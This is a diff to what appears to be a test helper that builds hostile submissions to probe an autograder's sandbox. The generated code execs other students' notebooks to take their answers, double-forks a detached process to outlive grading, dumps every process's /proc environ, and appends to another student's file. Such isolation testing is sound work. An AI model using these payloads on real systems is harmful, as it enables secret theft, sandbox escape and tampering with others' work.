@@ -74,20 +74,27 @@ def _stolen(name):
         namespace = {{}}
         try:
             cells = _json.loads(text)["cells"] if path.endswith(".ipynb") else [{{"cell_type": "code", "source": text}}]
-            for cell in cells:
-                if cell["cell_type"] == "code":
-                    exec("".join(cell["source"]), namespace)
         except Exception:
             continue
+        for cell in cells:
+            try:
+                if cell["cell_type"] == "code":
+                    exec("".join(cell["source"]), namespace)
+            except Exception:
+                pass  # a test cell; the answers are what counts
         if callable(namespace.get(name)):
             return namespace[name]
     return None
 '''
 
 
-def side_effects(outside, token, port=None, judge_pid=None):
-    """Module-level code that tries to write ``outside``, outlive grading, connect to ``port`` and signal the judge."""
+def side_effects(outside, token, port=None, judge_pid=None, victim=None):
+    """Module-level code that tries to write ``outside``, outlive grading, connect to ``port`` and signal the judge.
+
+    With ``victim`` (another student's file, a verdict), the detached process appends to it once grading is over.
+    """
     outside = str(outside)
+    tamper = f"echo '# rewritten after grading' >> {victim}; " if victim else ""
     return f'''
 import os as _os
 import sys as _sys
@@ -103,7 +110,7 @@ try:
     _sys.modules.pop("_posixsubprocess", None)
     import _posixsubprocess as _ps
     import subprocess as _subprocess  # noqa: F401 - fork_exec needs its helpers
-    _late = "sleep {LATE_S}; date > {outside}/late.txt; cat /proc/[0-9]*/environ > {outside}/environ.txt # {token}"
+    _late = "sleep {LATE_S}; {tamper}date > {outside}/late.txt; cat /proc/[0-9]*/environ > {outside}/environ.txt # {token}"
     _script = f"setsid sh -c '{{_late}}' &"  # double fork, new session: reparented, out of the sandbox's group
     _args = [[b"/bin/sh", b"-c", _script.encode()], [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1,
              *_os.pipe(), False, True, -1, None, None, None, -1, None]
